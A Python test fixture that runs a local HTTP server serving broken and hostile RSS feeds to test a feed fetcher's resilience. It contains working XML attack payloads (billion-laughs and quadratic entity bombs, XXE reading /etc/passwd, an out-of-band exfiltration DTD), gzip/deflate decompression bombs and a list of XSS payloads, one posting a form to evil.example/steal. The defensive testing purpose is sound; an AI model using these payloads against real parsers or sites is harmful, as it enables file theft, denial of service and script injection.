"""A deliberately misbehaving HTTP/1.1 feed server for fetcher tests.

The server binds 127.0.0.1 on a random free port, runs in background threads
and serves one hostile (or merely broken) behaviour per path, so tests can
prove the fetcher survives it.  It is written on raw sockets rather than
``http.server`` because several cases need byte-level control over what goes
on the wire (slow drip, endless chunked body, lying Content-Length, reset).

Every connection carries exactly one request and is closed afterwards
(``Connection: close``), which keeps the writer simple and the behaviour
deterministic.  Each connection handler ends on its own: all loops are bounded
in count, every wait is sliced into short ticks that re-check the stop flag,
the client's socket and a per-connection cap of 120 s.

Usage::

    with HostileServer() as server:
        httpx.get(server.url("/ok.xml"))
        assert server.hits["/evil.dtd"] == 0
"""

from __future__ import annotations

import contextlib
import email.utils
import json
import random
import secrets
import select
import socket
import struct
import threading
import time
import zlib
from collections import Counter
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from http import HTTPStatus
from types import TracebackType
from urllib.parse import parse_qs, unquote, urlsplit
from xml.sax.saxutils import escape

# --- limits -----------------------------------------------------------------
# Hard cap on the life of one connection, whatever the case does.
MAX_CONNECTION_SECONDS = 120.0
# Every wait is cut into slices this long, so stop() is noticed quickly.
TICK_SECONDS = 0.05
# A client that has not finished its request head by then is dropped.
REQUEST_HEAD_TIMEOUT = 10.0
MAX_REQUEST_HEAD_BYTES = 64 * 1024
# Beyond this many simultaneous connections new ones are closed at once, so a
# runaway client cannot make the test process spawn unbounded threads.
MAX_CONNECTIONS = 256
STOP_TIMEOUT = 2.0

MIB = 1024 * 1024
HUGE_BODY_BYTES = 50 * MIB
BOMB_DECOMPRESSED_BYTES = 1024 * MIB
HUGE_TITLE_BYTES = 5 * MIB
DRIP_INTERVAL_SECONDS = 2.0
DRIP_MAX_BYTES = 60
SLOW_HEADERS_SECONDS = 60.0
LYING_LENGTH_CLAIMED = 100_000
LYING_LENGTH_SENT = 500
MAX_REDIRECT_CHAIN = 1000
# Endless chunked body: chunk count cap on top of the time cap.
ENDLESS_MAX_CHUNKS = 10_000_000

ETAG = '"v1"'
LAST_MODIFIED = datetime(2025, 1, 6, 8, 0, 0, tzinfo=UTC)

RSS_TYPE = "application/rss+xml; charset=utf-8"
XML_TYPE = "application/xml"

Handler = Callable[["_Connection", "_Request"], None]


# --- feed text ----------------------------------------------------------------


def _http_date(value: datetime) -> str:
    return email.utils.format_datetime(value, usegmt=True)


def _date(year: int, month: int, day: int, hour: int = 12, minute: int = 0) -> str:
    return _http_date(datetime(year, month, day, hour, minute, tzinfo=UTC))


def _item(
    title_xml: str,
    link: str,
    pub_date: str,
    description_xml: str = "",
    *,
    guid: str | None = None,
    extra_xml: str = "",
) -> str:
    """One RSS <item>; ``*_xml`` arguments are inserted verbatim (already XML)."""
    guid_xml = f'<guid isPermaLink="false">{escape(guid)}</guid>' if guid else ""
    return (
        f"<item><title>{title_xml}</title><link>{escape(link)}</link>"
        f"{guid_xml}<pubDate>{escape(pub_date)}</pubDate>"
        f"<description>{description_xml}</description>{extra_xml}</item>\n"
    )


def _rss(
    title: str,
    link: str,
    items: Iterable[str],
    *,
    prolog: str = '<?xml version="1.0" encoding="utf-8"?>\n',
    description: str = "",
    namespaces: str = "",
) -> str:
    return (
        f'{prolog}<rss version="2.0"{namespaces}>\n<channel>\n'
        f"<title>{escape(title)}</title><link>{escape(link)}</link>"
        f"<description>{escape(description or title)}</description>\n"
        + "".join(items)
        + "</channel>\n</rss>\n"
    )


BLOG = "https://engineering.northwind.example"
OK_FEED = _rss(
    "Northwind Engineering Blog",
    f"{BLOG}/",
    [
        _item(
            "Cutting our CI build time in half",
            f"{BLOG}/posts/faster-ci",
            _http_date(LAST_MODIFIED),
            "How caching and test sharding took builds from 22 to 11 minutes.",
            guid=f"{BLOG}/posts/faster-ci",
        ),
        _item(
            "Postmortem: the 14 November DNS outage",
            f"{BLOG}/posts/dns-outage-postmortem",
            _date(2025, 1, 2, 15, 30),
            "A timeline of the outage and the five changes we made afterwards.",
            guid=f"{BLOG}/posts/dns-outage-postmortem",
        ),
        _item(
            "What we learned running SQLite in production",
            f"{BLOG}/posts/sqlite-in-production",
            _date(2024, 12, 20, 9, 15),
            "WAL mode, backups and the one pragma we wish we had set on day one.",
            guid=f"{BLOG}/posts/sqlite-in-production",
        ),
    ],
    description="Notes from the Northwind platform team",
).encode()

ATOM_FEED = f"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
<title>Northwind Engineering Blog (Atom)</title>
<id>{BLOG}/atom</id>
<updated>2025-01-06T08:00:00Z</updated>
<link rel="alternate" href="{BLOG}/"/>
<entry><title>Cutting our CI build time in half</title>
<id>{BLOG}/posts/faster-ci</id><link href="{BLOG}/posts/faster-ci"/>
<updated>2025-01-06T08:00:00Z</updated><summary>Builds went from 22 to 11 minutes.</summary>
</entry>
</feed>
""".encode()

HTML_PAGE = b"""<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Northwind Engineering</title>
<link rel="alternate" type="application/rss+xml" href="/ok.xml" title="Main feed">
<link rel="alternate" type="application/atom+xml" href="/atom.xml" title="Atom feed">
</head>
<body><h1>Northwind Engineering</h1><p>This is a web page, not a feed.</p></body>
</html>
"""


def _billion_laughs() -> bytes:
    # lol .. lol9: ten levels, each referencing the previous one ten times,
    # so &lol9; expands to 10**9 copies of "lol" (about 3 GB).
    entities = ['  <!ENTITY lol "lol">']
    for level in range(1, 10):
        previous = "lol" if level == 1 else f"lol{level - 1}"
        entities.append(f'  <!ENTITY lol{level} "{f"&{previous};" * 10}">')
    prolog = '<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE rss [\n' + "\n".join(entities) + "\n]>\n"
    items = [
        _item("&lol9;", "https://laughs.example/1", _date(2025, 1, 3), "Ha."),
        _item("A normal title", "https://laughs.example/2", _date(2025, 1, 2)),
    ]
    return _rss("Laughing Matters", "https://laughs.example/", items, prolog=prolog).encode()


def _quadratic() -> bytes:
    # One 100 KB entity referenced 10,000 times: about 1 GB once expanded,
    # with no nesting for a naive "entity depth" check to catch.
    prolog = f'<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE rss [\n  <!ENTITY a "{"A" * 100_000}">\n]>\n'
    items = [_item("&a;" * 10_000, "https://blowup.example/1", _date(2025, 1, 3))]
    return _rss("Quadratic Blowup", "https://blowup.example/", items, prolog=prolog).encode()


def _xxe_file() -> bytes:
    prolog = (
        '<?xml version="1.0" encoding="utf-8"?>\n'
        '<!DOCTYPE rss [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n'
    )
    items = [
        _item("&xxe;", "https://xxe.example/1", _date(2025, 1, 3), "Local file read."),
        _item("Harmless item", "https://xxe.example/2", _date(2025, 1, 2)),
    ]
    return _rss("Totally Normal Feed", "https://xxe.example/", items, prolog=prolog).encode()


def _xxe_remote(dtd_url: str) -> bytes:
    # Both an external DTD subset and a parameter entity point at our own
    # /evil.dtd, so any fetch of it shows up in HostileServer.hits.
    prolog = (
        '<?xml version="1.0" encoding="utf-8"?>\n'
        f'<!DOCTYPE rss SYSTEM "{dtd_url}" [\n'
        f'  <!ENTITY % remote_dtd SYSTEM "{dtd_url}">\n'
        "  %remote_dtd;\n]>\n"
    )
    items = [
        _item("&remote;", "https://xxe.example/r1", _date(2025, 1, 3), "Remote DTD."),
        _item("Harmless item", "https://xxe.example/r2", _date(2025, 1, 2)),
    ]
    return _rss("Totally Normal Feed", "https://xxe.example/", items, prolog=prolog).encode()


def _evil_dtd(base_url: str) -> bytes:
    # Classic out-of-band exfiltration DTD; any parser that reads it has
    # already failed the test, the content only makes the attempt realistic.
    return (
        "<!-- Served by HostileServer: fetching this DTD is the failure. -->\n"
        '<!ENTITY remote "REMOTE-DTD-WAS-LOADED">\n'
        '<!ENTITY % file SYSTEM "file:///etc/hostname">\n'
        f"<!ENTITY % send \"<!ENTITY &#x25; exfil SYSTEM '{base_url}/collect?d=%file;'>\">\n"
    ).encode()


def huge_feed_chunks(total: int = HUGE_BODY_BYTES) -> Iterator[bytes]:
    """Yield a feed-looking body of exactly ``total`` bytes, generated lazily."""
    head = (
        b'<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0">\n<channel>\n'
        b"<title>The Never-Ending Archive</title><link>https://archive.example/</link>"
        b"<description>Every post ever written</description>\n"
    )
    tail = b"</channel>\n</rss>\n"
    # A fixed-width counter keeps every item the same length, which makes the
    # exact total easy to hit: items, then whitespace padding, then the tail.
    template = (
        "<item><title>Archive post {n:09d}</title>"
        "<link>https://archive.example/posts/{n:09d}</link>"
        "<guid>https://archive.example/posts/{n:09d}</guid>"
        "<pubDate>Mon, 06 Jan 2025 08:00:00 GMT</pubDate>"
        "<description>Another day, another post in the archive.</description></item>\n"
    )
    item_len = len(template.format(n=0))
    budget = total - len(head) - len(tail)
    if budget < 0:
        yield (head + tail)[:total]
        return
    count, padding = divmod(budget, item_len)
    yield head
    batch = 256
    for start in range(0, count, batch):
        stop = min(start + batch, count)
        yield "".join(template.format(n=n) for n in range(start, stop)).encode()
    if padding:
        yield b"\n" * padding
    yield tail


_cache: dict[str, bytes] = {}
_cache_lock = threading.Lock()


def _cached(key: str, build: Callable[[], bytes]) -> bytes:
    with _cache_lock:
        if key in _cache:
            return _cache[key]
    # Built outside the lock; a rare duplicate build is harmless.
    value = build()
    with _cache_lock:
        return _cache.setdefault(key, value)


_bomb_lock = threading.Lock()
_bomb_parts: tuple[bytes, int, int] | None = None


def _bomb_core(abort: Callable[[], bool]) -> tuple[bytes, int, int] | None:
    """Raw deflate of 1 GiB of zeros plus its CRC-32 and Adler-32.

    Computed once (about 2 s) and shared by the gzip and deflate bombs, which
    only differ in their wrapper.  Returns None if ``abort`` fires meanwhile.
    """
    global _bomb_parts
    with _bomb_lock:
        if _bomb_parts is not None:
            return _bomb_parts
    zeros = bytes(MIB)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    parts: list[bytes] = []
    crc = zlib.crc32(b"")
    adler = zlib.adler32(b"")
    for _ in range(BOMB_DECOMPRESSED_BYTES // MIB):
        if abort():
            return None
        parts.append(compressor.compress(zeros))
        crc = zlib.crc32(zeros, crc)
        adler = zlib.adler32(zeros, adler)
    parts.append(compressor.flush())
    with _bomb_lock:
        if _bomb_parts is None:
            _bomb_parts = (b"".join(parts), crc, adler)
        return _bomb_parts


def bomb_body(encoding: str, abort: Callable[[], bool] = lambda: False) -> bytes | None:
    """The compressed bomb for ``gzip`` or ``deflate`` (zlib-wrapped), ~1 MB."""
    core = _bomb_core(abort)
    if core is None:
        return None
    raw, crc, adler = core
    if encoding == "gzip":
        # RFC 1952 header: magic, deflate, no flags, mtime 0, max compression, OS unknown.
        header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
        trailer = struct.pack("<II", crc, BOMB_DECOMPRESSED_BYTES & 0xFFFFFFFF)
        return header + raw + trailer
    # RFC 1950 header 0x78 0xDA: 32K window, best compression, valid FCHECK.
    return b"\x78\xda" + raw + struct.pack(">I", adler)


def prepare_bombs() -> None:
    """Precompute the bombs now, for tests that use tight client timeouts."""
    _bomb_core(lambda: False)


def _huge_title() -> bytes:
    words = "Breaking: local council approves the new cycle lane after long debate. "
    title = (words * (HUGE_TITLE_BYTES // len(words) + 1))[:HUGE_TITLE_BYTES]
    items = [
        _item(escape(title), "https://news.example/huge", _date(2025, 1, 3)),
        _item("Weather: sunny spells", "https://news.example/weather", _date(2025, 1, 2)),
    ]
    return _rss("Local News", "https://news.example/", items).encode()


BOZO_FEED = b"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0">
<channel>
<title>Bob & Alice's Kitchen</title>
<link>https://kitchen.example/</link>
<description>Recipes & stories from a small kitchen</description>
<item><title>Fish & Chips, the proper way</title>
<link>https://kitchen.example/fish-and-chips</link>
<guid>https://kitchen.example/fish-and-chips</guid>
<pubDate>Mon, 06 Jan 2025 08:00:00 GMT</pubDate>
<description>Crispy <b>beer batter</description>
</item>
<item><title>Salt & vinegar crisps at home</title>
<link>https://kitchen.example/crisps</link>
<guid>https://kitchen.example/crisps</guid>
<pubDate>Fri, 03 Jan 2025 08:00:00 GMT</pubDate>
<description>Thin slices, hot oil & patience.</description>
</item>
<item><title>Sunday roast timings</title>
<link>https://kitchen.example/roast</link>
<guid>https://kitchen.example/roast</guid>
<pubDate>Wed, 01 Jan 2025 08:00:00 GMT</pubDate>
<description>Work backwards from dinner time.</description>
</item>
</channel>
</rss>
"""


def _utf16() -> bytes:
    items = [
        _item("Café crème et brioche", "https://intl.example/cafe", _date(2025, 1, 3)),
        _item("Über die Brücke: Straßenbahn", "https://intl.example/ubahn", _date(2025, 1, 2)),
        _item("東京の桜 — 花見の季節", "https://intl.example/sakura", _date(2025, 1, 1)),
    ]
    prolog = '<?xml version="1.0" encoding="UTF-16"?>\n'
    # Python's "utf-16" codec writes a BOM (little-endian here) first.
    return _rss("Intl Wire — Ελληνικά", "https://intl.example/", items, prolog=prolog).encode("utf-16")


def _cp1251_as_utf8() -> bytes:
    items = [
        _item("Новости дня: погода в Москве", "https://ru.example/1", _date(2025, 1, 3)),
        _item("Курс рубля и рынок акций", "https://ru.example/2", _date(2025, 1, 2)),
        _item("Хоккей: итоги сезона", "https://ru.example/3", _date(2025, 1, 1)),
    ]
    # Declared (and served) as UTF-8, but the bytes are windows-1251.
    return _rss("Русская лента", "https://ru.example/", items).encode("cp1251")


def _gb2312() -> bytes:
    items = [
        _item("科技新闻：北京发布新规", "https://cn.example/1", _date(2025, 1, 3)),
        _item("今日天气：上海多云", "https://cn.example/2", _date(2025, 1, 2)),
        _item("经济观察", "https://cn.example/3", _date(2025, 1, 1)),
    ]
    prolog = '<?xml version="1.0" encoding="GB2312"?>\n'
    return _rss("中文新闻", "https://cn.example/", items, prolog=prolog).encode("gb2312")


def _dup_guids() -> bytes:
    site = "https://dupes.example"
    items = [
        _item("Release 1.0", f"{site}/r1", _date(2025, 1, 4), guid=f"{site}/posts/1"),
        _item("Release 1.1", f"{site}/r11", _date(2025, 1, 3), guid=f"{site}/posts/42"),
        _item("Release 1.1 (corrected)", f"{site}/r11b", _date(2025, 1, 2), guid=f"{site}/posts/42"),
        _item("Release 1.2", f"{site}/r12", _date(2025, 1, 1), guid=f"{site}/posts/3"),
    ]
    return _rss("Release Notes", f"{site}/", items).encode()


def _changing_guids() -> bytes:
    # Fresh suffix per request: same titles and dates, ever-new ids and links.
    token = secrets.token_hex(6)
    site = "https://unstable.example"
    items = [
        _item(
            title,
            f"{site}/story/{slug}-{token}",
            _date(2025, 1, day),
            guid=f"{site}/story/{slug}-{token}",
        )
        for title, slug, day in [
            ("Markets open higher", "markets", 3),
            ("Transport strike called off", "strike", 2),
            ("New library opens downtown", "library", 1),
        ]
    ]
    return _rss("Unstable Ids Daily", f"{site}/", items).encode()


def _weird_dates() -> bytes:
    site = "https://dates.example"
    future = datetime.now(UTC).replace(microsecond=0) + timedelta(days=3)
    items = [
        _item("Posted at the end of time", f"{site}/9999", _date(9999, 12, 31, 23, 59)),
        _item("Posted at the dawn of time", f"{site}/0001", _date(1, 1, 1, 0, 0)),
        _item("Posted sometime", f"{site}/garbage", "the day after yesterday, probably"),
        _item("Posted from the future", f"{site}/future", _http_date(future)),
        _item("A normal post", f"{site}/normal", _date(2025, 1, 6, 8, 0)),
    ]
    return _rss("Time Travel Weekly", f"{site}/", items).encode()


XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">click me</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
    '<iframe src="https://evil.example/frame"></iframe>',
    '<div style="width: expression(alert(1))">styled</div>',
    "<svg onload=alert(1)><circle r=1></circle></svg>",
    '<form action="https://evil.example/steal"><input name="password"></form>',
    '<object data="https://evil.example/x.swf"></object>',
]
XSS_SAFE = [
    '<a href="https://example.org/">link</a>',
    '<img src="https://example.org/a.png" alt="a">',
    "<ul><li>first</li><li>second</li></ul>",
    "<em>emphasis</em> and <strong>strong</strong>",
    "<blockquote>quoted wisdom</blockquote>",
]


def _xss() -> bytes:
    site = "https://xss.example"
    safe = "<p>" + " ".join(XSS_SAFE) + "</p>"
    items = []
    for index, payload in enumerate(XSS_PAYLOADS):
        html = f"<p>Post {index} intro.</p>{payload}{safe}"
        items.append(
            _item(
                f"Totally innocent post {index}",
                f"{site}/posts/{index}",
                _date(2025, 1, 6, 8, index),
                escape(html),  # description: entity-escaped HTML
                guid=f"{site}/posts/{index}",
                # content:encoded: the same HTML, raw inside CDATA
                extra_xml=f"<content:encoded><![CDATA[{html}]]></content:encoded>",
            )
        )
    return _rss(
        "Innocent Blog",
        f"{site}/",
        items,
        namespaces=' xmlns:content="http://purl.org/rss/1.0/modules/content/"',
    ).encode()


# --- connection plumbing --------------------------------------------------------


def _ready(sock: socket.socket, events: int, timeout: float) -> bool:
    """poll() a single socket (poll, not select: fd numbers may exceed 1024)."""
    poller = select.poll()
    try:
        poller.register(sock, events)
    except (OSError, ValueError):
        return True  # closed socket: let the following call fail and end the handler
    return bool(poller.poll(max(0, int(timeout * 1000))))


@dataclass
class _Request:
    method: str
    path: str
    query: dict[str, list[str]]
    headers: dict[str, str]


class _Connection:
    """One accepted socket, with sends and waits that always give up in time."""

    def __init__(self, sock: socket.socket, stop: threading.Event) -> None:
        self.sock = sock
        self.stop = stop
        self.deadline = time.monotonic() + MAX_CONNECTION_SECONDS
        self.method = "GET"
        self.aborted = False
        sock.setblocking(False)

    def _expired(self) -> bool:
        return self.stop.is_set() or time.monotonic() >= self.deadline

    def read_request(self) -> _Request | None:
        buffer = b""
        give_up = min(self.deadline, time.monotonic() + REQUEST_HEAD_TIMEOUT)
        while b"\r\n\r\n" not in buffer:  # bounded by size and time below
            if self._expired() or time.monotonic() >= give_up:
                return None
            if len(buffer) > MAX_REQUEST_HEAD_BYTES:
                return None
            if not _ready(self.sock, select.POLLIN, TICK_SECONDS):
                continue
            try:
                data = self.sock.recv(16384)
            except BlockingIOError:
                continue
            except OSError:
                return None
            if not data:
                return None
            buffer += data
        head = buffer.split(b"\r\n\r\n", 1)[0].decode("latin-1")
        request_line, *header_lines = head.split("\r\n")
        parts = request_line.split(" ")
        if len(parts) != 3:
            return None
        method, target, _version = parts
        headers: dict[str, str] = {}
        for line in header_lines:
            name, sep, value = line.partition(":")
            if not sep:
                continue
            key, value = name.strip().lower(), value.strip()
            headers[key] = f"{headers[key]}, {value}" if key in headers else value
        split = urlsplit(target)
        self.method = method.upper()
        return _Request(
            method=self.method,
            path=unquote(split.path) or "/",
            query=parse_qs(split.query),
            headers=headers,
        )

    def send(self, data: bytes) -> bool:
        """Send everything; False if the client left, the cap hit or stop() ran."""
        view = memoryview(data)
        while view:  # each pass sends >= 1 byte or waits one tick; deadline-bounded
            if self._expired():
                return False
            if not _ready(self.sock, select.POLLOUT, TICK_SECONDS):
                continue
            try:
                sent = self.sock.send(view)
            except BlockingIOError:
                continue
            except OSError:
                return False
            view = view[sent:]
        return True

    def idle(self, seconds: float) -> bool:
        """Wait; False early if the client hung up, the cap hit or stop() ran."""
        end = min(time.monotonic() + seconds, self.deadline)
        while (remaining := end - time.monotonic()) > 0:  # time-bounded
            if self.stop.is_set():
                return False
            if not _ready(self.sock, select.POLLIN, min(TICK_SECONDS, remaining)):
                continue
            try:
                data = self.sock.recv(4096)  # anything sent now is discarded
            except BlockingIOError:
                continue
            except OSError:
                return False
            if not data:
                return False  # orderly close by the client
        return not self._expired()

    def send_head(self, status: int, headers: Iterable[tuple[str, str]] = ()) -> bool:
        try:
            reason = HTTPStatus(status).phrase
        except ValueError:
            reason = "Unknown"
        lines = [f"HTTP/1.1 {status} {reason}"]
        lines.append(f"Date: {email.utils.formatdate(usegmt=True)}")
        lines.append("Server: hostile-feed-server/1.0")
        for name, value in headers:
            # Strip CR/LF so a query-supplied Location cannot inject headers.
            clean = value.replace("\r", "").replace("\n", "")
            lines.append(f"{name}: {clean}")
        lines.append("Connection: close")
        return self.send(("\r\n".join(lines) + "\r\n\r\n").encode("utf-8"))

    def respond(
        self,
        status: int,
        body: bytes = b"",
        content_type: str | None = None,
        headers: Iterable[tuple[str, str]] = (),
    ) -> None:
        """A complete, well-formed response with an accurate Content-Length."""
        all_headers: list[tuple[str, str]] = []
        if content_type:
            all_headers.append(("Content-Type", content_type))
        if status != HTTPStatus.NOT_MODIFIED:
            all_headers.append(("Content-Length", str(len(body))))
        all_headers.extend(headers)
        if not self.send_head(status, all_headers):
            return
        if body and self.method != "HEAD" and status != HTTPStatus.NOT_MODIFIED:
            self.send(body)

    def stream(self, chunks: Iterable[bytes]) -> bool:
        return all(self.send(chunk) for chunk in chunks)

    def abort(self) -> None:
        """Make close() send an RST instead of a FIN (SO_LINGER, zero timeout)."""
        self.aborted = True
        with contextlib.suppress(OSError):
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))

    def close(self) -> None:
        if not self.aborted:
            with contextlib.suppress(OSError):
                self.sock.shutdown(socket.SHUT_WR)
        self.sock.close()


# --- the server ------------------------------------------------------------------


class HostileServer:
    """Real HTTP server on 127.0.0.1 serving one misbehaviour per path.

    ``files`` adds (or overrides) static paths; bodies are served as
    application/xml unless the path ends in ``.json`` or ``.html``.  The dict
    stays public, so tests may add entries after start() (e.g. bodies that
    embed ``base_url``).

    ``aliases`` maps a path to another case's path (query string allowed), so
    a feed URL that served a good feed can turn hostile for the next poll.
    ``/gen/NAME.xml?items=N&delay=S`` serves small valid feeds of their own, and
    ``/lastmod-only.xml`` the OK feed with Last-Modified but no ETag.

    ``hits`` counts requests per path (query string excluded; a Counter, so a
    never-requested path reads 0).  ``requests`` lists ``(path, headers)`` for
    every request, with header names lower-cased.  ``in_flight`` and
    ``max_in_flight`` count requests being answered at once.
    """

    def __init__(self, files: dict[str, bytes] | None = None) -> None:
        self.files: dict[str, bytes] = dict(files or {})
        # path -> another path whose behaviour it takes (e.g. "/feed.xml" -> "/gzip-bomb.xml"),
        # so one feed URL can turn hostile between two polls; public, like `files`.
        self.aliases: dict[str, str] = {}
        # path -> a whole HTTP response, sent byte for byte (status line and headers
        # included), for answers no well-behaved server library would write: non-ASCII
        # header values, reason phrases with markup, invalid Locations, odd Retry-After.
        self.raw: dict[str, bytes] = {}
        self.base_url = ""
        self.port = 0
        self.hits: Counter[str] = Counter()
        self.requests: list[tuple[str, dict[str, str]]] = []
        # Requests being answered right now, and the most there ever were at once
        # (for tests of the client's concurrency limits; reset with reset_in_flight()).
        self.in_flight = 0
        self.max_in_flight = 0
        self._lock = threading.Lock()
        self._stop = threading.Event()
        self._listener: socket.socket | None = None
        self._accept_thread: threading.Thread | None = None
        self._sockets: set[socket.socket] = set()
        self._workers: set[threading.Thread] = set()
        self._routes: dict[str, Handler] = {
            "/ok.xml": self._ok,
            "/atom.xml": self._fixed(ATOM_FEED, "application/atom+xml; charset=utf-8"),
            "/billion-laughs.xml": self._fixed(lambda: _cached("bl", _billion_laughs)),
            "/quadratic.xml": self._fixed(lambda: _cached("quad", _quadratic)),
            "/xxe-file.xml": self._fixed(_xxe_file),
            "/xxe-remote.xml": self._fixed(lambda: _xxe_remote(self.url("/evil.dtd"))),
            "/evil.dtd": self._fixed(lambda: _evil_dtd(self.base_url), "application/xml-dtd"),
            "/huge.xml": self._huge,
            "/huge-nolength.xml": self._huge_no_length,
            "/gzip-bomb.xml": lambda conn, req: self._bomb(conn, "gzip"),
            "/deflate-bomb.xml": lambda conn, req: self._bomb(conn, "deflate"),
            "/endless-chunked.xml": self._endless_chunked,
            "/slow-drip.xml": self._slow_drip,
            "/slow-headers.xml": self._slow_headers,
            "/redirect-loop-a": self._redirect(302, "/redirect-loop-b"),
            "/redirect-loop-b": self._redirect(302, "/redirect-loop-a"),
            "/redirect-to": self._redirect_to,
            "/moved-permanently": self._redirect(301, "/ok.xml", absolute=True),
            "/moved-308": self._redirect(308, "/ok.xml", absolute=True),
            "/moved-temporarily": self._redirect(302, "/ok.xml", absolute=True),
            "/moved-307": self._redirect(307, "/ok.xml", absolute=True),
            "/gone": self._error(410),
            "/not-found": self._error(404),
            "/server-error": self._error(500),
            "/rate-limited": self._error(429, lambda: [("Retry-After", "120")]),
            "/unavailable-date": self._error(
                503,
                lambda: [("Retry-After", _http_date(datetime.now(UTC) + timedelta(hours=1)))],
            ),
            "/html-page": self._fixed(HTML_PAGE, "text/html; charset=utf-8"),
            "/empty": self._fixed(b"", XML_TYPE),
            "/random-bytes": self._fixed(random.Random(20250106).randbytes(4096), XML_TYPE),
            "/not-jsonfeed.json": self._fixed(json.dumps({"hello": "world"}).encode(), "application/json"),
            "/bozo.xml": self._fixed(BOZO_FEED),
            "/utf16.xml": self._fixed(lambda: _cached("utf16", _utf16), XML_TYPE),
            "/cp1251-as-utf8.xml": self._fixed(
                lambda: _cached("cp1251", _cp1251_as_utf8), "application/xml; charset=utf-8"
            ),
            "/gb2312.xml": self._fixed(lambda: _cached("gb2312", _gb2312), XML_TYPE),
            "/dup-guids.xml": self._fixed(lambda: _cached("dup", _dup_guids)),
            "/changing-guids.xml": self._fixed(_changing_guids),
            "/huge-title.xml": self._fixed(lambda: _cached("huge-title", _huge_title)),
            "/weird-dates.xml": self._fixed(_weird_dates),
            "/xss.xml": self._fixed(lambda: _cached("xss", _xss)),
            "/lying-length.xml": self._lying_length,
            "/reset": lambda conn, req: conn.abort(),
            "/lastmod-only.xml": self._last_modified_only,
        }

    # --- lifecycle ---

    def start(self) -> HostileServer:
        if self._listener is not None:
            raise RuntimeError("HostileServer already started")
        listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        listener.bind(("127.0.0.1", 0))
        listener.listen(128)
        listener.setblocking(False)
        self._listener = listener
        self.port = listener.getsockname()[1]
        self.base_url = f"http://127.0.0.1:{self.port}"
        self._accept_thread = threading.Thread(
            target=self._accept_loop, name=f"hostile-accept-{self.port}", daemon=True
        )
        self._accept_thread.start()
        return self

    def stop(self) -> None:
        """Stop accepting, cut every open connection and join threads (<= 2 s)."""
        deadline = time.monotonic() + STOP_TIMEOUT - 0.2
        self._stop.set()
        if self._accept_thread is not None:
            self._accept_thread.join(max(0.0, deadline - time.monotonic()))
        if self._listener is not None:
            self._listener.close()
        with self._lock:
            workers = list(self._workers)
            for sock in self._sockets:
                # Wakes any handler blocked on this socket; handlers also poll _stop.
                with contextlib.suppress(OSError):
                    sock.shutdown(socket.SHUT_RDWR)
        for worker in workers:
            worker.join(max(0.0, deadline - time.monotonic()))

    def __enter__(self) -> HostileServer:
        return self.start()

    def __exit__(
        self,
        exc_type: type[BaseException] | None,
        exc: BaseException | None,
        tb: TracebackType | None,
    ) -> None:
        self.stop()

    def url(self, path: str) -> str:
        if not self.base_url:
            raise RuntimeError("HostileServer not started")
        return self.base_url + path

    def reset_in_flight(self) -> None:
        with self._lock:
            self.max_in_flight = self.in_flight

    @property
    def active_connections(self) -> int:
        """Connections whose handler is still running (lets tests see them end)."""
        with self._lock:
            return len(self._workers)

    # --- accept / dispatch ---

    def _accept_loop(self) -> None:
        listener = self._listener
        assert listener is not None
        while not self._stop.is_set():  # lives exactly as long as the server
            if not _ready(listener, select.POLLIN, TICK_SECONDS):
                continue
            try:
                sock, _ = listener.accept()
            except BlockingIOError:
                continue
            except OSError:
                return
            with self._lock:
                if len(self._workers) >= MAX_CONNECTIONS or self._stop.is_set():
                    sock.close()
                    continue
                worker = threading.Thread(target=self._serve, args=(sock,), name="hostile-conn", daemon=True)
                self._sockets.add(sock)
                self._workers.add(worker)
            worker.start()

    def _serve(self, sock: socket.socket) -> None:
        conn = _Connection(sock, self._stop)
        try:
            request = conn.read_request()
            if request is None:
                return
            with self._lock:
                self.hits[request.path] += 1
                self.requests.append((request.path, dict(request.headers)))
                self.in_flight += 1
                self.max_in_flight = max(self.max_in_flight, self.in_flight)
            try:
                self._handler_for(request.path)(conn, request)
            finally:
                with self._lock:
                    self.in_flight -= 1
        except OSError:
            pass  # the client vanished mid-response: that is the point of most cases
        finally:
            # Unregister before closing, under the lock stop() holds while it
            # shuts sockets down, so it never touches a closed (reused) fd.
            with self._lock:
                self._sockets.discard(sock)
            conn.close()
            with self._lock:
                self._workers.discard(threading.current_thread())

    def _handler_for(self, path: str) -> Handler:
        if path in self.raw:
            return self._raw
        if path in self.files:
            return self._static_file
        if path in self.aliases:
            return self._aliased
        if path in self._routes:
            return self._routes[path]
        if path.startswith("/redirect-chain/"):
            return self._redirect_chain
        if path.startswith("/gen/"):
            return self._generated
        return self._error(404)

    # --- handler factories ---

    def _fixed(self, body: bytes | Callable[[], bytes], content_type: str = RSS_TYPE) -> Handler:
        def handle(conn: _Connection, request: _Request) -> None:
            conn.respond(200, body() if callable(body) else body, content_type)

        return handle

    def _error(self, status: int, headers: Callable[[], list[tuple[str, str]]] = list) -> Handler:
        def handle(conn: _Connection, request: _Request) -> None:
            phrase = HTTPStatus(status).phrase
            body = f"<html><body><h1>{status} {phrase}</h1></body></html>\n".encode()
            conn.respond(status, body, "text/html; charset=utf-8", headers())

        return handle

    def _redirect(self, status: int, target: str, *, absolute: bool = False) -> Handler:
        # Loops and chains use relative Locations (clients must resolve them);
        # the moved-* cases use absolute ones.
        def handle(conn: _Connection, request: _Request) -> None:
            location = self.url(target) if absolute else target
            conn.respond(status, b"", None, [("Location", location)])

        return handle

    # --- individual cases ---

    def _static_file(self, conn: _Connection, request: _Request) -> None:
        if request.path.endswith(".json"):
            content_type = "application/json"
        elif request.path.endswith(".html"):
            content_type = "text/html; charset=utf-8"
        else:
            content_type = XML_TYPE
        conn.respond(200, self.files[request.path], content_type)

